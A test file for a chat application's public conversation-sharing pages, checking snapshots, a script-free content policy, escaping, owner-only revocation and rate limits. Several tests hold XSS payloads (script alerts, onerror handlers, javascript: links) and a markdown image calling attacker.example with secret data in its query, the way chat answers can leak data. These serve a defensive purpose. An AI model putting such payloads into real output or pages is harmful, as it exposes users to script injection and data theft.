import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { chat, type files as F } from '@atelier/contracts';
import { callEndpoint } from '../../test/call-endpoint.js';
import { bearer, call } from '../../test/harness.js';
import { fake, t, alice, bob, models, stream, newGroup, logsOf, useChatApp } from './chat.setup.js';
import { SHARES_PER_MINUTE } from './share-routes.js';

useChatApp();

async function upload(headers: Record<string, string>) {
  const bytes = await sharp({
    create: { width: 8, height: 8, channels: 3, background: { r: 5, g: 6, b: 7 } },
  })
    .png()
    .toBuffer();
  const boundary = `----b${Math.random().toString(16).slice(2)}`;
  const res = await call<F.UploadedFile>(t.app, {
    method: 'POST',
    url: '/api/upload/file',
    headers: { ...headers, 'content-type': `multipart/form-data; boundary=${boundary}` },
    payload: Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n`,
      ),
      bytes,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]),
  });
  return res.body.data.url;
}

/** The public page, read signed out. */
const open = (path: string) =>
  t.app.inject({ method: 'GET', url: path, headers: { 'x-lang': 'en-US' } });

let shared = 0;
const share = async (h: Record<string, string>, groupId: number) => {
  shared++;
  return callEndpoint(t.app, chat.createShare, { headers: h, body: { groupId } });
};

describe('share a conversation', () => {
  it('serves a snapshot of the branch on screen, signed out, with its picture and Open Graph tags', async () => {
    const h = bearer(alice.token);
    const groupId = await newGroup(h);
    const picture = await upload(h);
    fake.reply = 'A first answer with **bold** text';
    await stream(h, {
      gptModelId: models['Fake vision'],
      prompt: 'What is in this picture?',
      image_url: `http://localhost${picture}`,
      options: { groupId },
    });
    fake.reply = 'The second answer';
    await stream(h, { gptModelId: models.Fake, prompt: 'Second question', options: { groupId } });
    // An edit: the snapshot holds the branch on screen only.
    const rows = await logsOf(h, groupId);
    fake.reply = 'The edited answer';
    await stream(h, {
      gptModelId: models.Fake,
      prompt: 'Edited second question',
      options: { groupId, parentId: rows[1]!.id },
    });

    const made = await share(h, groupId);
    expect(made.status).toBe(200);
    const s = made.body.data;
    expect(s).toMatchObject({ groupId, title: 'What is in this picture?', messageCount: 4 });
    expect(s.id).toMatch(/^[A-Za-z0-9_-]{24}$/);
    expect(s.path).toBe(`/c/${s.id}`);

    const page = await open(s.path);
    expect(page.statusCode).toBe(200);
    expect(page.headers['content-type']).toContain('text/html');
    const html = page.body;
    expect(html).toContain('<meta property="og:title" content="What is in this picture?">');
    expect(html).toContain('<meta property="og:description" content="What is in this picture?">');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('Edited second question');
    expect(html).toContain('The edited answer');
    expect(html).not.toContain('The second answer');
    // Light: no script, no chat bundle.
    expect(html).not.toMatch(/<script|\/assets\//);
    expect(page.headers['content-security-policy']).toContain("script-src 'none'");
    // No script, so no analytics beacon either: pictures from the site, data: and blob: only.
    const imgSrc = /img-src ([^;]*)/.exec(String(page.headers['content-security-policy']))?.[1];
    expect(imgSrc?.split(' ').sort()).toEqual(["'self'", 'blob:', 'data:']);
    // The picture is one of ours, signed afresh, and loads signed out.
    const src = /<img src="([^"]+)"/.exec(html)![1]!.replaceAll('&amp;', '&');
    expect(src).toMatch(/^\/api\/files\/.+\?exp=\d+&sig=/);
    const img = await t.app.inject({ method: 'GET', url: src });
    expect(img.statusCode).toBe(200);
    expect(img.headers['content-type']).toBe('image/png');

    // Later messages do not change the snapshot.
    fake.reply = 'Written after the share';
    await stream(h, { gptModelId: models.Fake, prompt: 'After', options: { groupId } });
    expect((await open(s.path)).body).not.toContain('Written after the share');
  });

  it('escapes hostile words and cuts dangerous links', async () => {
    const h = bearer(alice.token);
    const groupId = await newGroup(h);
    fake.reply =
      'Hi <script>alert(1)</script><img src=x onerror=alert(2)> [click](javascript:alert(3)) ' +
      '[ok](https://example.com/a) <iframe src="https://evil.example"></iframe>';
    await stream(h, {
      gptModelId: models.Fake,
      prompt: '"><script>alert(4)</script> & </title><b>',
      options: { groupId },
    });
    const s = (await share(h, groupId)).body.data;
    const html = (await open(s.path)).body;
    expect(html).not.toMatch(/<script|<iframe|<img|javascript:|<[^>]*onerror/i);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('<a href="https://example.com/a">ok</a>');
    expect(html).toContain(
      '<meta property="og:title" content="&quot;&gt;&lt;script&gt;alert(4)&lt;/script&gt; &amp; &lt;/title&gt;&lt;b&gt;">',
    );
    expect(html).toContain(
      '<title>&quot;&gt;&lt;script&gt;alert(4)&lt;/script&gt; &amp; &lt;/title&gt;&lt;b&gt;</title>',
    );
  });

  it("shows another site's picture in an answer as a link naming its host, never loaded", async () => {
    const h = bearer(alice.token);
    const groupId = await newGroup(h);
    fake.reply =
      'Chart: ![chart](https://attacker.example/x.gif?data=secret&more=1) and ' +
      '![side](//evil.example/y.png "t")';
    await stream(h, { gptModelId: models.Fake, prompt: 'Draw me a chart', options: { groupId } });
    const s = (await share(h, groupId)).body.data;
    const html = (await open(s.path)).body;
    expect(html).not.toMatch(/<img[^>]*(attacker|evil)\.example/);
    expect(html).toContain(
      '<a class="remote-picture" href="https://attacker.example/x.gif?data=secret&amp;more=1" rel="noopener noreferrer nofollow" target="_blank">A picture from attacker.example (not loaded; opens that site)</a>',
    );
    expect(html).toContain('A picture from evil.example (not loaded; opens that site)');
  });

  it("shows an answer's numbered sources and folded tool calls, escaped", async () => {
    const h = bearer(alice.token);
    const groupId = await newGroup(h);
    fake.reply = 'It is sunny [1].';
    await stream(h, { gptModelId: models.Fake, prompt: 'Weather?', options: { groupId } });
    const answer = (await logsOf(h, groupId)).at(-1)!;
    // What a search and a tool call keep with the answer (chat-search and chat-mcp tests make
    // them through the fakes); here, with hostile words in each field.
    const sources: chat.WebSource[] = [
      {
        n: 1,
        title: 'Forecast <script>alert(5)</script>',
        url: 'https://example.com/f?a=1&b="2"',
        domain: 'example.com',
      },
      { n: 2, title: 'Bad link', url: 'javascript:alert(6)', domain: '' },
    ];
    const toolCalls: chat.ToolCall[] = [
      {
        id: 'call_1',
        name: 'weather__<b>now</b>',
        arguments: '{"city":"<img src=x onerror=alert(7)>"}',
        result: 'Sunny </pre></details><script>alert(8)</script>',
        ok: true,
        ms: 42,
      },
      {
        id: 'call_2',
        name: 'weather__later',
        arguments: '{}',
        result: 'Timed out',
        ok: false,
        ms: 15000,
      },
    ];
    await t.app.ctx.db.kysely
      .updateTable('chat_logs')
      .set({ sources: JSON.stringify(sources), tool_calls: JSON.stringify(toolCalls) })
      .where('id', '=', answer.id)
      .execute();
    const s = (await share(h, groupId)).body.data;
    const html = (await open(s.path)).body;
    expect(html).not.toMatch(/<script|<img|javascript:|<b>now/i);
    // Sources under the answer: number, title, link, domain.
    expect(html).toContain(
      '<li data-testid="shared-source">[1] <a href="https://example.com/f?a=1&amp;b=&quot;2&quot;" rel="noopener noreferrer nofollow" target="_blank">Forecast &lt;script&gt;alert(5)&lt;/script&gt;</a> <span class="domain">example.com</span></li>',
    );
    expect(html).toContain('<li data-testid="shared-source">[2] Bad link');
    expect(html).toContain('<div class="label">Sources</div>');
    // Tool calls folded: name and time on the summary, arguments and result inside, escaped.
    expect(html.match(/<details class="tool"/g)).toHaveLength(2);
    expect(html).toContain('<summary>Tool weather__&lt;b&gt;now&lt;/b&gt; · 42 ms</summary>');
    expect(html).toContain(
      '<pre><code>{&quot;city&quot;:&quot;&lt;img src=x onerror=alert(7)&gt;&quot;}</code></pre>',
    );
    expect(html).toContain(
      '<pre><code>Sunny &lt;/pre&gt;&lt;/details&gt;&lt;script&gt;alert(8)&lt;/script&gt;</code></pre>',
    );
    expect(html).toContain('<summary>Tool weather__later · 15000 ms · failed</summary>');
    // In the visitor's language.
    const zh = await t.app.inject({ method: 'GET', url: s.path, headers: { 'x-lang': 'zh-CN' } });
    expect(zh.body).toContain('<div class="label">来源</div>');
    expect(zh.body).toContain('<summary>工具 weather__later · 15000 ms · 失败</summary>');
  });

  it('lists and revokes only its owner’s shares; a revoked link is a 404 page', async () => {
    const a = bearer(alice.token);
    const b = bearer(bob.token);
    const groupId = await newGroup(a);
    fake.reply = 'Shared answer';
    await stream(a, { gptModelId: models.Fake, prompt: 'Shared question', options: { groupId } });
    const s = (await share(a, groupId)).body.data;

    // Bob can neither share Alice's chat, see her shares, nor revoke them.
    expect((await share(b, groupId)).status).toBe(404);
    const bobs = await callEndpoint(t.app, chat.listShares, { headers: b });
    expect(bobs.body.data.rows.map((r) => r.id)).not.toContain(s.id);
    const bobRevoke = await callEndpoint(t.app, chat.revokeShare, {
      headers: b,
      body: { id: s.id },
    });
    expect(bobRevoke.status).toBe(404);
    expect((await open(s.path)).statusCode).toBe(200);

    const mine = await callEndpoint(t.app, chat.listShares, { headers: a });
    expect(mine.body.data.rows[0]).toMatchObject({ id: s.id, groupId, title: 'Shared question' });

    const revoked = await callEndpoint(t.app, chat.revokeShare, { headers: a, body: { id: s.id } });
    expect(revoked.status).toBe(200);
    const gone = await open(s.path);
    expect(gone.statusCode).toBe(404);
    expect(gone.body).toContain('This conversation is not shared');
    expect(gone.body).not.toContain('Shared answer');
    const after = await callEndpoint(t.app, chat.listShares, { headers: a });
    expect(after.body.data.rows.map((r) => r.id)).not.toContain(s.id);
    // Revoking twice, or a made-up token: 404.
    expect(
      (await callEndpoint(t.app, chat.revokeShare, { headers: a, body: { id: s.id } })).status,
    ).toBe(404);
    expect((await open('/c/AAAAAAAAAAAAAAAAAAAAAAAA')).statusCode).toBe(404);
    expect((await open('/c/%3Cscript%3E')).body).not.toContain('<script>');
  });

  it('limits how many shares are made a minute', async () => {
    const h = bearer(bob.token);
    const groupId = await newGroup(h);
    let last = 0;
    for (let i = shared; i <= SHARES_PER_MINUTE; i++) last = (await share(h, groupId)).status;
    expect(last).toBe(429);
  });
});
